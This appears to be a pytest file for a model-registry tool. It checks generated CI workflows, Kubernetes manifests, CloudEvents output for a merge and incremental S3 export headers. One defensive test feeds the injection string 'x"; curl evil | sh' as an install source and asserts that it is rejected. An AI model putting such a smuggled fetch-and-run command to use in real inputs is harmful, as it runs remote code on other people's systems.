"""Publishing after merge: the workflows init writes (linted), CloudEvents of a merge,
the export to S3 (moto's server) with per-file headers, and the server's Kubernetes files."""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from modelreg import Registry
from modelreg.export import export, read_catalog
from modelreg.scaffold import PUBLISH_WORKFLOW, SERVER_DIR, WORKFLOW
from modelreg.site.sources import gather
from tests.artifacts.stores import S3Server, start_s3
from tests.conftest import RunCli, git
from tests.deploy.deployrepo import kubernetes_problems

INSTALL = "git+https://github.com/acme/modelreg@v0.1.0"


def lint_workflow(path: Path) -> None:
    """check-jsonschema against the GitHub workflow schema it ships (no network)."""
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "check_jsonschema",
            "--builtin-schema",
            "vendor.github-workflows",
            str(path),
        ],
        capture_output=True,
        text=True,
    )
    assert done.returncode == 0, done.stdout + done.stderr


def test_init_writes_linted_workflows_installing_from_the_given_source(
    tmp_path: Path,
    run_cli: RunCli,
) -> None:
    out = run_cli("init", str(tmp_path / "reg"), "--install-from", INSTALL)
    assert out.code == 0, out.err
    root = tmp_path / "reg"
    for name in (WORKFLOW, PUBLISH_WORKFLOW):
        lint_workflow(root / name)
        workflow = yaml.safe_load((root / name).read_text())
        assert workflow["env"]["MODELREG_INSTALL"] == INSTALL
        steps = [s for job in workflow["jobs"].values() for s in job.get("steps", [])]
        install = next(s for s in steps if s.get("name") == "Install modelreg")
        assert 'pip install "$MODELREG_INSTALL"' in install["run"]
        assert "pip install modelreg" not in (root / name).read_text()
    publish = yaml.safe_load((root / PUBLISH_WORKFLOW).read_text())
    assert publish[True]["push"]["branches"] == ["main"]  # YAML 1.1 reads `on` as True
    runs = "\n".join(s.get("run", "") for s in publish["jobs"]["publish"]["steps"])
    assert 'export "$CATALOG_URL"' in runs
    assert "--format cloudevents" in runs


def test_init_without_a_known_source_writes_a_workflow_that_stops_with_a_message(
    tmp_path: Path,
) -> None:
    # this checkout is installed editable: no source CI could reach, so none is guessed
    reg = Registry.init(tmp_path / "reg")
    workflow = yaml.safe_load((reg.root / PUBLISH_WORKFLOW).read_text())
    assert workflow["env"]["MODELREG_INSTALL"] == ""
    install = next(
        s for s in workflow["jobs"]["publish"]["steps"] if s.get("name") == "Install modelreg"
    )
    script = install["run"]
    done = subprocess.run(
        ["bash", "-c", script], env={"MODELREG_INSTALL": "", "PATH": "/usr/bin:/bin"},
        capture_output=True, text=True,
    )  # fmt: skip
    assert done.returncode == 1 and "set MODELREG_INSTALL" in done.stdout


def test_init_refuses_an_install_source_that_is_not_a_requirement(
    tmp_path: Path,
    run_cli: RunCli,
) -> None:
    out = run_cli("init", str(tmp_path / "reg"), "--install-from", 'x"; curl evil | sh')
    assert out.code == 2 and "not a pip requirement" in out.err
    assert not (tmp_path / "reg" / "modelreg.yaml").exists()


def test_init_writes_valid_kubernetes_files_for_the_server(tmp_path: Path) -> None:
    reg = Registry.init(tmp_path / "reg", install_from=INSTALL)
    docs = {
        name: yaml.safe_load((reg.root / SERVER_DIR / name).read_text())
        for name in ("deployment.yaml", "service.yaml")
    }
    for obj in docs.values():
        assert kubernetes_problems(obj) == []
    deployment, service = docs["deployment.yaml"], docs["service.yaml"]
    assert deployment["spec"]["replicas"] == 2
    container = deployment["spec"]["template"]["spec"]["containers"][0]
    assert "--follow" in container["command"][2] and "--fetch-interval" in container["command"][2]
    env = {e["name"]: e["value"] for e in container["env"]}
    assert env["MODELREG_INSTALL"] == INSTALL and env["FETCH_INTERVAL"] == "30s"
    assert service["spec"]["selector"] == deployment["spec"]["selector"]["matchLabels"]


def test_events_of_a_merge_as_cloudevents(
    tmp_path: Path,
    run_cli: RunCli,
) -> None:
    reg = Registry.init(tmp_path / "reg")
    reg.create_model("churn", name="Churn", framework="xgboost")
    reg.register_version("churn", metrics={"auc": 0.8}, stage="production")
    git(reg.root, "checkout", "-qb", "feature")
    reg.register_version("churn", metrics={"auc": 0.9})
    reg.set_stage("churn", 2, "production")
    reg.set_alias("churn@2", "champion")
    git(reg.root, "checkout", "-q", "main")
    git(reg.root, "merge", "-q", "--no-ff", "-m", "merge feature", "feature")
    out = run_cli("-R", str(reg.root), "events", "HEAD^1..HEAD", "--format", "cloudevents")
    assert out.code == 0, out.err
    events = [json.loads(line) for line in out.out.splitlines()]
    # the merge is what the pull request did: v2 registered, promoted and made champion
    assert [(e["type"], e["subject"], e["data"].get("after")) for e in events] == [
        ("dev.modelreg.version.stage.moved", "churn@1", "archived"),
        ("dev.modelreg.version.registered", "churn@2", "production"),
        ("dev.modelreg.version.alias.moved", "churn@2", "2"),
    ]
    assert events[2]["data"]["fields"] == ["champion"]
    head = git(reg.root, "rev-parse", "HEAD").strip()
    for e in events:
        assert e["specversion"] == "1.0" and e["source"] == "/modelreg/reg"
        assert e["data"]["commit"] == head and e["time"].endswith("Z")
    assert len({e["id"] for e in events}) == len(events)
    again = run_cli("-R", str(reg.root), "events", "HEAD^1..HEAD", "--format", "cloudevents")
    assert again.out == out.out  # the same merge, the same ids
    text = run_cli("-R", str(reg.root), "events", "HEAD^1..HEAD")
    assert "churn: version 2 registered" in text.out
    bad = run_cli("-R", str(reg.root), "events", "HEAD")
    assert bad.code == 2 and "BASE..HEAD" in bad.err


@pytest.fixture(scope="module")
def s3() -> Iterator[S3Server]:
    server = start_s3()
    yield server
    server.stop()


def _objects(server: S3Server, bucket: str) -> dict[str, dict[str, Any]]:
    client = server.client()
    out = {}
    for item in client.list_objects_v2(Bucket=bucket).get("Contents", []):
        head = client.head_object(Bucket=bucket, Key=item["Key"])
        out[item["Key"]] = head
    return out


def test_export_to_s3_with_content_type_and_cache_control(
    s3: S3Server, site_root: Path, tmp_path: Path
) -> None:
    bucket = s3.new_bucket()
    dest = f"s3://{bucket}/catalog"
    options = {"endpoint_url": s3.endpoint}
    reg = Registry.open(site_root)
    catalog = read_catalog(reg)
    first = export(catalog, dest, storage_options=options, site=gather(reg, catalog))
    objects = _objects(s3, bucket)
    expected = {
        "catalog/index.html": ("text/html; charset=utf-8", "no-cache"),
        "catalog/models/churn-xgb.html": ("text/html; charset=utf-8", "no-cache"),
        "catalog/models/churn-xgb.json": ("application/json", "no-cache"),
        "catalog/catalog.json": ("application/json", "no-cache"),
        "catalog/assets/site.css": ("text/css; charset=utf-8", "public, max-age=3600"),
        "catalog/assets/site.js": ("text/javascript; charset=utf-8", "public, max-age=3600"),
    }
    for key, (ctype, cache) in expected.items():
        assert objects[key]["ContentType"] == ctype, key
        assert objects[key]["CacheControl"] == cache, key
    assert len(first.written) == len([k for k in objects if not k.endswith("export.json")])

    # nothing changed: nothing uploaded
    again = export(catalog, dest, storage_options=options, site=gather(reg, catalog))
    assert again.written == ()

    # one model changed: its two files and the shared documents, nothing else
    clone = tmp_path / "clone"
    git(tmp_path, "clone", "-q", str(site_root), str(clone))
    changed = Registry.open(clone)
    changed.update("grid-onnx", description="Day-ahead grid load")
    catalog = read_catalog(changed)
    third = export(catalog, dest, storage_options=options, site=gather(changed, catalog))
    assert sorted(third.written) == [
        "api/v1/model-registry/models.json",
        "catalog.json",
        "index.html",
        "models/grid-onnx.html",
        "models/grid-onnx.json",
    ]  # the terminal document holds no description: unchanged
